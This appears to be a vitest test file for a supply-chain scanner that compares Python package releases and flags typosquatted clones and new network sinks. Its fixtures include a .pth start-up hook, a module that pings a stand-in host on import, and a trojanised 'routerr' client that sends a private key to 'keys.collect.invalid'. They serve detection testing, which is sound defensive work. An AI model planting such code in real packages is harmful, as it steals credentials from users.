import { createHash } from 'node:crypto';
import { describe, expect, test } from 'vitest';
import { attestationOf } from '../../src/policy/attestations.ts';
import { compareReleases, type ReleaseHistory } from '../../src/policy/compare-releases.ts';
import { codePrintsOf, compareCopy, findCopyChange, isCopy } from '../../src/policy/copies.ts';
import type { ReleaseChange } from '../../src/policy/facts.ts';
import type { ReleaseView } from '../../src/policy/summaries.ts';
import { analysePacked, type Packed, python, sdist, wheel } from '../support/inspect.ts';
import { makeReport, makeStoredFile } from '../support/stored-facts.ts';
import { DAY, NOW } from './policy-facts.ts';

/** The archives themselves, analysed as served files are: what the summaries really hold. */
async function view(packed: Packed, daysAgo: number): Promise<ReleaseView> {
  const at = NOW - daysAgo * DAY;
  const file = makeStoredFile(packed.filename, { firstSeenAt: at, uploadTime: new Date(at).toISOString() });
  const { findings, score, summary } = await analysePacked(packed);
  return { file, report: { ...makeReport(file, { findings, score }), summary } };
}

function compare(candidate: ReleaseView, history: Partial<ReleaseHistory>): readonly ReleaseChange[] {
  return compareReleases(candidate, { attested: { own: attestationOf(candidate.file, NOW), earlier: [] }, ...history });
}
const sum = (changes: readonly ReleaseChange[]): number => changes.reduce((total, { score }) => total + score, 0);
const kinds = (changes: readonly ReleaseChange[]): readonly string[] => changes.map(({ kind }) => kind);

const CLIENT = python(
  'import urllib.request',
  '',
  "BASE = 'https://api.router.invalid/v1'",
  '',
  'class Client:',
  '    def __init__(self, key):',
  '        self.key = key',
  '    def complete(self, prompt):',
  '        request = urllib.request.Request(BASE, data=prompt.encode(), headers={"Authorization": self.key})',
  '        return urllib.request.urlopen(request).read()',
);
const CACHE = python(
  'import json',
  '',
  'def load(path):',
  '    with open(path) as file:',
  '        return json.load(file)',
);
const tableOf = (word: string): string =>
  python(
    ...Array.from(
      { length: 40 },
      (_, index) => `def ${word}_of_model_${index}(tokens):\n    return tokens * ${index} / 1000`,
    ),
  );
const FILES = {
  'router/__init__.py': "from .client import Client\n__version__ = '1.4.1'\n",
  'router/client.py': CLIENT,
  'router/cache.py': CACHE,
  'router/costs.py': tableOf('price'),
  'router/limits.py': tableOf('limit'),
  'router/tokens.py': tableOf('length'),
};
const baseline = await view(wheel(FILES, { version: '1.4.1' }), 12);

describe('releases as they are', () => {
  test('a release that grows as projects do is no news', async () => {
    const grown = wheel(
      {
        ...FILES,
        'router/__init__.py': "from .client import Client\nfrom .retry import again\n__version__ = '1.5.0'\n",
        'router/retry.py': python(
          'import time, urllib.request',
          'def again(url):',
          '    time.sleep(1)',
          "    return urllib.request.urlopen(url or 'https://status.router.invalid/').read()",
        ),
      },
      { version: '1.5.0' },
    );

    expect(compare(await view(grown, 0), { baseline })).toEqual([]);
  });

  test('a start-up file beside the same modules is enough to hold it, whatever it does', async () => {
    const files = { ...FILES, 'router_init.pth': 'import router\n' };

    const changes = compare(await view(wheel(files, { version: '1.4.2' }), 0), { baseline });

    expect(kinds(changes)).toEqual(['new-start-up-file']);
    expect(sum(changes)).toBeGreaterThanOrEqual(5);
  });

  test('a module that reports home when it is imported shows as a new sink and a new host', async () => {
    const files = {
      ...FILES,
      'router/proxy.py': python(
        'import urllib.request',
        "urllib.request.urlopen('https://models.collect.invalid/ping')",
      ),
    };

    const changes = compare(await view(wheel(files, { version: '1.4.2' }), 0), { baseline });

    expect([...kinds(changes)].sort()).toEqual(['new-host', 'new-sink']);
    expect(changes.map(({ message }) => message).join()).toContain('models.collect.invalid');
  });

  test('a wheel with a module that its sdist does not have', async () => {
    const source = sdist(
      Object.fromEntries([
        ...Object.entries(FILES).map(([path, text]) => [`src/${path}`, text]),
        ['setup.py', 'from setuptools import setup\nsetup(name="router")\n'],
      ]) as Record<string, string>,
      { name: 'router', version: '1.4.1' },
    );
    const counterpart = await view(source, 0);
    const poisoned = {
      ...FILES,
      'router/proxy.py': python('import urllib.request', "urllib.request.urlopen('https://models.collect.invalid/p')"),
    };

    expect(compare(baseline, { counterpart })).toEqual([]);
    expect(compare(counterpart, { counterpart: baseline })).toEqual([]);
    expect(kinds(compare(await view(wheel(poisoned), 0), { counterpart }))).toEqual(['wheel-differs-from-sdist']);
  });

  test('a trojanised clone under another name shows the one module that differs', async () => {
    const renamed = Object.fromEntries(
      Object.entries(FILES).map(([path, text]) => [
        path.replace('router', 'routerr'),
        text.replaceAll('router', 'routerr'),
      ]),
    );
    const stealing = CLIENT.replaceAll('router', 'routerr')
      .replace(
        '        self.key = key',
        "        self.key = key\n        urllib.request.urlopen('https://keys.collect.invalid/k', data=private_key.encode())",
      )
      .replace('(self, key)', '(self, key, private_key)');
    const clone = await view(wheel({ ...renamed, 'routerr/client.py': stealing }, { name: 'routerr' }), 0);
    const [own, original] = [codePrintsOf(clone.report.summary), codePrintsOf(baseline.report.summary)];
    const sha256 = createHash('sha256').update('router').digest('hex');

    const copied = compareCopy(clone.report.summary, baseline.report.summary, {
      project: 'router',
      filename: baseline.file.file.filename,
      sha256,
    });

    expect(isCopy(own.filter((print) => original.includes(print)).length, own.length)).toBe(true);
    expect(copied.differing).toEqual(['routerr/client.py']);
    expect(findCopyChange(clone.report, copied)?.path).toBe('routerr/client.py');
  });
});
